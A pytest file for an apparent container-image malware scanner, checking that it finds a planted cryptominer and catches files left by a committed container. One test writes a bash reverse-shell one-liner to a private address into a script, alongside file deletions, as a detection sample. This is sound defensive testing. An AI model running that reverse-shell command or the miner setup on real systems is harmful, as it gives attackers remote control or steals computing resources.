"""Images of a real engine, by API and by command."""

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from pratique.model import FindingKind, ImageId, Report
from pratique.pipelines.scan import scan_engine_image, scan_file
from pratique.pipelines.workers import Workers
from pratique.runtime import Engine
from testbed import images
from testbed.engine import ThrowAwayEngine


@pytest.fixture(scope="module")
def pool() -> Iterator[Workers]:
    with Workers(1) as pool:
        yield pool


@pytest.fixture
def miner(client: docker.DockerClient) -> Iterator[images.Image]:
    image = images.miner("10.0.0.1", 3333)
    image.load(client)
    yield image
    client.images.remove(image.reference, force=True)


def scan(engine: ThrowAwayEngine, image_id: str, pool: Workers) -> Report:
    async def run() -> Report:
        async with Engine.connect(engine.url) as connection:
            return await scan_engine_image(connection, ImageId(image_id), pool=pool)

    return asyncio.run(run())


def command(engine: ThrowAwayEngine, *arguments: str) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, **engine.options()}
    return subprocess.run(
        [sys.executable, "-m", "pratique", *arguments], env=environment, capture_output=True, text=True, check=False
    )


def test_innocent_image_has_packages_and_no_malware(engine: ThrowAwayEngine, pool: Workers) -> None:
    report = scan(engine, images.base().id, pool)
    assert report.image.id == images.base().id
    assert report.distribution == "alpine 3.19.1"
    assert {package.ecosystem for package in report.packages} == {"Alpine:v3.19"}
    assert [finding for finding in report.findings if finding.kind is FindingKind.MALWARE] == []
    assert report.unread == ()


def test_miner_is_found(engine: ThrowAwayEngine, miner: images.Image, pool: Workers) -> None:
    report = scan(engine, miner.id, pool)
    (finding,) = [finding for finding in report.findings if finding.kind is FindingKind.MALWARE]
    assert (finding.rule, finding.path) == ("miner-program", "usr/bin/xmrig")


def test_command_finds_the_miner_and_keeps_the_report(engine: ThrowAwayEngine, miner: images.Image) -> None:
    result = command(engine, "scan", "--fail-on", "malware", "-f", "json", miner.reference)
    assert result.returncode == 2, result.stderr
    assert json.loads(result.stdout)["image"]["id"] == miner.id
    assert "miner-program" in result.stderr
    assert miner.reference in command(engine, "images").stdout


def test_unknown_image_is_one_error(engine: ThrowAwayEngine) -> None:
    result = command(engine, "scan", "no/such:image")
    assert result.returncode == 1
    assert "neither a file nor an image of the engine" in result.stderr
    assert "Traceback" not in result.stderr


def test_saved_image_gives_the_report_of_the_engines(
    engine: ThrowAwayEngine, client: docker.DockerClient, pool: Workers, tmp_path: Path
) -> None:
    path = tmp_path / "saved.tar"
    with path.open("wb") as file:
        for chunk in client.images.get("alpine-like/base:1").save(named=True):
            file.write(chunk)
    saved, direct = scan_file(path), scan(engine, images.base().id, pool)
    assert saved.image.id == direct.image.id
    assert (saved.packages, saved.findings, saved.files) == (direct.packages, direct.findings, direct.files)


def test_what_a_container_left_behind_is_seen_after_commit(
    engine: ThrowAwayEngine, client: docker.DockerClient, pool: Workers
) -> None:
    script = "echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' > /tmp/x.sh; rm /usr/bin/probe; rm -r /root; mkdir /root"
    container = client.containers.run(
        "alpine-like/base:1", ["sh", "-c", script], detach=True, cgroup_parent=engine.cgroup_parent
    )
    assert container.wait()["StatusCode"] == 0
    image_id = str(container.commit("test/committed").id)
    try:
        report = scan(engine, image_id, pool)
    finally:
        container.remove()
        client.images.remove(image_id, force=True)
    paths = [finding.path for finding in report.findings if finding.kind is FindingKind.MALWARE]
    assert paths == ["", "tmp/x.sh"]  # the command that is committed with it, in the configuration, and what it wrote
    assert report.files == scan(engine, images.base().id, pool).files  # one came, one went
    assert report.unread == ()
